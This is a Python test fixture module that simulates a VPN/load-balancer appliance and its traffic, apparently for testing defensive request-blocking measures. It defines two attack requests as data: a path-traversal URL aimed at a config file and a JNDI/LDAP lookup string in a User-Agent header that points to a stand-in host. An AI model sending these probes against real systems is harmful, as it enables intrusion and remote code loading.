# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""One simulated appliance with its customers' traffic, and what is true of it: asked of the simulator itself, and never of our own records."""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from simulator import Simulator
from tests.engine.geoblock_stage import LAB
from tests.stage.client import ask
from tests.stage.fleet import fleet_file
from tests.stage.memory import MARKER

BOX: dict[str, Any] = {
    "build": "13.0 47.22",
    "nodes": ["127.0.0.1:0"],
    "features": ["LB", "SSL", "SSLVPN", "RESPONDER", "APPFW"],
    "user_defined_audit_log": "YES",
    "vservers": [
        {"type": "vpn", "name": "gw", "address": "127.0.0.2:0", "protocol": "SSL"},
        {"type": "lb", "name": "site", "address": "127.0.0.3:0", "protocol": "SSL"},
    ],
    "configuration": {
        "auditsyslogaction": [{"name": "loghost", "serverip": "192.0.2.9", "loglevel": ["ALL"]}],
        "responderpolicy": [{"name": "rp_of_others", "rule": 'HTTP.REQ.URL.STARTSWITH("/old")', "action": "NOOP"}],
        "responderglobal_responderpolicy_binding": [
            {"policyname": "rp_of_others", "priority": 500, "type": "REQ_OVERRIDE", "gotopriorityexpression": "NEXT"}
        ],
    },
}
FLEET = fleet_file({"box": BOX}, drop_seconds=0.1)
FIXED = "13.0 47.24"
LATER, LATER_FIXED = "13.1 53.24", "13.1 64.29"
"""Builds of a release that has the settings of management logs, and no weakness of 2019."""
VSERVERS = ("gw", "site")
US, STRANGER, PARTNER = "127.0.0.1", "127.0.9.9", "127.77.0.9"
SHUT_OUT = LAB


@dataclass(frozen=True)
class Request:
    path: str
    agent: str = "a browser"
    cookie: str = ""


BY_URL = Request("/vpn/../vpns/cfg/smb.conf")
BY_HEADER = Request("/", "${jndi:ldap://192.0.2.1/a}")
START = {"gw": Request("/vpn/index.html"), "site": Request("/shop/")}
UNLISTED = Request("/nobody/listed/this.cgi")


@dataclass(frozen=True)
class Answer:
    """The answer of a virtual server.

    :ivar status: 0 where it gave none
    """

    status: int
    is_marked: bool = False
    body: str = ""

    @property
    def is_stopped(self) -> bool:
        return not self.status or self.is_marked


class World:
    """The appliance, and who asks it.

    :ivar later: it runs a release with the settings of management logs
    :ivar start: its configuration before anything of ours
    """

    def __init__(self, simulator: Simulator, folder: Path, *, later: bool = False) -> None:
        self.simulator = simulator
        self.later = later
        self.folder = folder
        self.records = folder / "records"
        self.records.mkdir(parents=True)
        self.runs = 0
        self.start = self.rows("running")
        ready = simulator.ready["appliances"]["box"]
        self.vips = {vip["name"]: vip for vip in ready["vservers"]}

    def next_run(self) -> str:
        self.runs += 1
        return f"run{self.runs:03}"

    def session(self) -> str:
        """Return the cookie of a user who is logged on at the Gateway."""
        return self.simulator.appliance("box").session("gw")

    def ask(self, vserver: str, request: Request, client: str = STRANGER) -> Answer:
        """Return the answer to a request of a client."""
        headers = {"User-Agent": request.agent, **({"Cookie": request.cookie} if request.cookie else {})}
        found = ask(self.vips[vserver], request.path, client=client, headers=headers)
        return Answer(found.status or 0, MARKER in str(found.headers), found.body)

    def rows(self, kind: str) -> list[str]:
        """Return the configuration that the simulator has, as sorted JSON."""
        state = self.simulator.appliance("box").state()
        found = state["nodes"][0][kind]
        return sorted(
            json.dumps([type_, _without_defaults(row)], sort_keys=True, default=str)
            for type_ in found
            for row in found[type_]
        )

    def named(self, name: str, kind: str = "running") -> list[str]:
        """Return the rows of the objects of ours with a name, and of their bindings."""
        return [line for line in self.rows(kind) if f'"{name}"' in line or f'"{name}__' in line]

    def is_saved(self, name: str) -> bool:
        """Return True if what the appliance has of a measure is saved as it runs."""
        return self.named(name) == self.named(name, "saved")

    def bound(self, name: str) -> list[str]:
        """Return the policies of a measure that are bound, with their action."""
        rows = [json.loads(line) for line in self.named(name)]
        at = {row.get("policyname") or row.get("policy") for type_, row in rows if type_.endswith("_binding")}
        return [str(row["action"]) for type_, row in rows if type_ == "responderpolicy" and row["name"] in at]

    def of_others(self) -> list[str]:
        """Return the rows of others that were there at the start and are not as they were."""
        now = set(self.rows("running"))
        return [line for line in self.start if line not in now and "of_others" in line]


def _without_defaults(row: dict[str, Any]) -> dict[str, Any]:
    """Return a row without a setting that has its default, which an undo writes out."""
    return {name: value for name, value in row.items() if (name, value) != ("dtls", "ON")}
